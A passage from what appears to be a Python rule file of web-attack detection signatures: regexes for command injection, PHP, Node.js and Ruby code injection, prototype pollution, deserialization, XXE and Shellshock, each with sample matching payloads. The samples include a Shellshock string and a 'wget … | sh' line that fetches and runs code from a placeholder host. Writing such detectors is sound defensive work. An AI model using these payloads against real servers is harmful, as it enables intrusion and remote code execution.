                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
                r"tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
                r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
                r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
                r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
                r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
                r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
                r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
                r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
                r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
                r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
                r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
                r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
                r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
                r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
                r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
                r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
                r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
                r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\b(?:$|&)|[|;]\s*\w{1,3} \(|"
                r"\balias [-+]?[\w+-]* ?\w+ ?=|[=;\s](?:\$\w|\$\{\w+\})+\s+(?:id|ls|ps|w|who|whoami|uname|pwd|cat|"
                r"tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|lwp-\w+|aria2c|"
                r"tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|busybox|perl|"
                r"python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|rmdir|mkdir|"
                r"touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|egrep|awk|"
                r"gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|nohup|"
                r"crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
                r"netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|"
                r"adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|"
                r"psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|"
                r"expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|"
                r"reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|"
                r"nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|"
                r"lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|"
                r"msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|"
                r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|"
                r"zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|"
                r"vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|"
                r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
                r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
                r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\s|(?:^|[=\s])!(?:-?\d+|!|\?\w+\?)(?:$|&|!|\s|"
                r"-)"
            )
        ),
        plain=True,
        positive=("/?x=time+who", "/?x=ls+foo+bar", "/?x=!-1!-2", "/?rce=alias%20%2bm%20a=b", "/?x=time+bsdtar+"),
        negative=("/?q=time+warner", "/?q=find+me", "/?q=cat+food+for+old+cats"),
        false_positives="words of a search that are also commands",
    ),
    Signature(
        id="rce-sqlite-shell",
        family="rce",
        title="A command of SQLite's shell",
        severity="medium",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"(?:^|[;=\n\"'`]|\\n)\s*\. ?(?:archive|backup|bail|binary|cd|changes|check|clone|connection|"
            r"databases|dbconfig|dbinfo|dump|echo|eqp|excel|exit|expert|explain|filectrl|fullschema|headers|"
            r"import|imposter|indexes|limit|lint|load|log|mode|nonce|nullvalue|once|open|output|parameter|"
            r"print|progress|prompt|quit|read|recover|restore|save|scanstats|schema|selftest|separator|"
            r"session|sha3sum|shell|sh|show|stats|system|tables|testcase|testctrl|timeout|timer|trace|"
            r"unmodule|vfsinfo|vfslist|vfsname|width)\b(?:[ \n;]|$|&)"
        ),
        plain=True,
        positive=("/?x=1;.sh+whoami", "/?x=;\\n.databases"),
        negative=("/?f=a.log", "/?ext=.html"),
    ),
    Signature(
        id="rce-php-variable",
        family="rce",
        title="A PHP variable, a setting or a call by name",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"\$_(?:get|post|request|cookie|server|files|session|env)\b|\$globals\b|\bhttp_(?:raw_post_data|"
            r"cookie_vars|get_vars|post_vars|server_vars)\b|_(?:request|globals|server|session|cookie)\[|"
            r"\$\{?\s*\{?\$?\w+(?:->\w+|\[\w*\])*\}?\s*(?:/\*.*\*/\s*)?\(|\$\s*\{\s*['\"$@(]|"
            r"\(\s*string\s*\)\s*[\[{'\"(]|(?:^|[\s&=;?])(?:allow_url_(?:include|fopen)|auto_(?:prepend|"
            r"append)_file|disable_functions|open_basedir|extension_dir|memory_limit|safe_mode|suhosin\.\w+|"
            r"cgi\.(?:force_redirect|redirect_status_env)|error_log|include_path|upload_tmp_dir|zend\.\w+|"
            r"assert\.\w+)\s*="
        ),
        plain=True,
        positive=(
            "/?x=$_GET[1]",
            "/?-d+allow_url_include=on",
            "/?x=${$a}",
            "/?x=memory_limit+=+512M",
            "/?%24_COOKIE=value",
        ),
        negative=("/?price=$20", "/?x=a_get"),
    ),
    Signature(
        id="rce-php-disguised",
        family="rce",
        title="A PHP call whose function is put together or in parentheses",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"[\w'\")\]}]\s*[\])]\s*(?:\[\s*\w*\s*\]\s*)*\(\s*['\"@\w(][^)]*\)\s*(?:;|\.|$|&)|"
            r"\(\s*string\s*\)\s*['\"]|['\"]\s*\(\s*[\w'\"@]*\s*\)\s*(?:;|\.)|"
            r"['\"]\s*\.\s*['\"][^'\"]*['\"]\s*\(|\(\s*\w+\s*\.\s*\(\s*\w+"
        ),
        positive=(
            "/?x=(system)('uname');",
            "/?x=(string)\"system\"('uname');",
            "/?x=[system][0](ls);",
            "/?x=(sy.(st).em)('uname');",
        ),
        negative=("/?q=(a)(b)+c", "/?q=f(x)"),
    ),
    Signature(
        id="rce-node",
        family="rce",
        title="JavaScript for a server",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.007"),
        where=PAYLOAD,
        pattern=(
            r"\brequire\s*\(\s*['\"]?(?:child_process|fs|os|net|http|vm)|\brequire\.main\b|\bchild_process\b|"
            r"\b(?:process|require|module|constructor|globalthis)\s*\[|\bprocess\s*(?:\.|"
            r"\[['\"])\s*(?:mainmodule|binding|env|exit|kill|argv|dlopen|stdout)|\bthis\.constructor\b|"
            r"\bconstructor\s*\.\s*(?:constructor|_load|prototype|call|apply)|\[['\"]constructor['\"]\]|"
            r"\bnew\s+function\s*\(|\bobject\.(?:assign|defineproperty|setprototypeof|prototype|"
            r"getprototypeof)\b|\b(?:function|eval)\s*\(\s*[\"'`]|\bmodule\.exports\b|\bchild\.(?:exec|spawn)|"
            r"\.(?:exec|spawn|fork)(?:file)?(?:sync)?\s*\(|\b_load\s*\(|\bglobal\.\w+|\bbuffer\.from\s*\(|"
            r"\bdeno\.|\bimport\s*\(\s*['\"]|\bglobal(?:this)?\.process\b|\bnode:(?:child_process|fs|vm)|"
            r"_\$\$nd_func\$\$_|\breaddirsync\b|\bexecsync\b|\bspawnsync\b|\b__defin(?:es|eg)etter__|"
            r"\bresolved_model\b|:constructor\b|\b(?:while|for)(?:/\*.*\*/)?\(|\b(?:while|for)\s*\(\s*(?:true|"
            r"[-+!~\d.\[{/'\"]|;;|infinity|null|undefined|nan)"
        ),
        plain=True,
        positive=(
            "/?x=require('child_process').exec('id')",
            "/?x=process.mainModule.require",
            "/?x=this.constructor.constructor",
            "/?x=process[%22env%22]",
            "/?x=while(true);",
        ),
        negative=("/?x=process+environment", "/?q=required+process"),
    ),
    Signature(
        id="rce-perl-ruby",
        family="rce",
        title="Perl or Ruby put into a string",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"@\{\s*\[.*\]|\b(?:process|kernel|file|dir|io|pty|open3|fileutils|object|module|marshal|yaml|"
            r"psych)\.(?:spawn|exec|system|popen\w*|capture\w*|pipeline\w*|read\w*|open\w*|write|delete|"
            r"binread|fork|clock_gettime|daemon|kill|exit|detach|wait|const_get|load|send|rm_rf?|glob|syscall|"
            r"trap|last_status|argv0|groups|euid|uid)\b|#\{[^}]*\b(?:system|exec|spawn|open|file|io|eval|`)|"
            r"%x[({\[]|\bio\.popen\b|\berb\.new\b|\bsend\s*\(\s*:|\buse\s+lib\b|\b__import__\s*\(|"
            r"\bos\.(?:system|popen)\s*\(|\bsubprocess\.|\b__(?:class|globals|builtins|subclasses|mro|bases|"
            r"init)__\b|\bimport\s+os\b"
        ),
        positive=(
            "/?x=@{[system+'id']}",
            "/?x=%23{system('id')}",
            "/?x=__import__('os').system('id')",
            "/?x={{''.__class__.__mro__}}",
        ),
        negative=("/?email=user@example.com",),
    ),
    Signature(
        id="prototype-pollution",
        family="prototype",
        title="An assignment to the prototype of all objects",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=ARGS,
        pattern=r"__proto__|\bconstructor\s*\]?\s*(?:\.|\[['\"]?)\s*prototype",
        plain=True,
        positive=("/?__proto__[x]=1", "/?constructor.prototype.x=1", "/?a[constructor][prototype][x]=1"),
        negative=("/?proto=1",),
    ),
    Signature(
        id="deserialization-object",
        family="deserialization",
        title="A serialised object",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=PAYLOAD,
        pattern=(
            r"\b[oc]:\d+:\"[\w\\]+\":\d+:\{|\bro0ab[a-z0-9+/]|\baced0005|\baaeaaad/|\byso(?:serial)?\b|"
            r"!!python/|!!java|\bgadget\b.*\bchain\b|\btyped?:\s*system\.|\"\$type\"\s*:|\"@type\"\s*:"
        ),
        plain=True,
        positive=("/?x=O:8:%22stdClass%22:0:{}", "/?x=rO0ABXNyABFqYXZh"),
        negative=("/?x=o:1",),
    ),
    Signature(
        id="xxe-entity",
        family="xxe",
        title="An XML entity or document type that reads files",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=PAYLOAD,
        pattern=(
            r"<!entity\b|<!doctype\b[^>]*(?:\[|\bsystem\b|\bpublic\b)|\bxinclude\b|<xi:include\b|"
            r"<!\[cdata\[.*<"
        ),
        positive=("/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///x'>]>",),
        negative=("/?x=<!doctype+html>",),
        references=("https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",),
    ),
    Signature(
        id="rce-unix-tilde",
        family="rce",
        title="A tilde that a shell makes a directory",
        severity="low",
        confidence="medium",
        techniques=("T1595.002", "T1059.004"),
        where=("args",),
        pattern=r"=~(?:[+-]?\d*)(?:$|&|/|\s)",
        positive=("/?x=~0", "/?x=~+"),
        negative=("/?x=~user",),
    ),
    Signature(
        id="rce-unix-agent",
        family="rce",
        title="A UNIX command in a user agent",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.004"),
        where=("agent",),
        pattern=(
            r"\(\)\s*\{|[;|&`]\s*(?:/\w+)*/?(?:wget|curl|cat|bash|sh|nc|ping|echo|rm|chmod|perl|python\d?|php|"
            r"nslookup|sleep|uname|busybox|tftp|cd)\s+[-/h'\"$|>~\d]|[;|`]\s*(?:id|whoami|uname|pwd|ls)\s*[;|"
            r"`]|/bin/(?:ba|z|da)?sh\b|/dev/tcp/"
        ),
        positive=(Example(agent="() { :;}; /bin/bash -c id"), Example(agent="x;wget http://x/y -O- |sh")),
        negative=(
            Example(agent="Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0)"),
            Example(agent="Embedly/0.2; snap; +http://support.embed.ly/"),
        ),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-6271",),
    ),
)
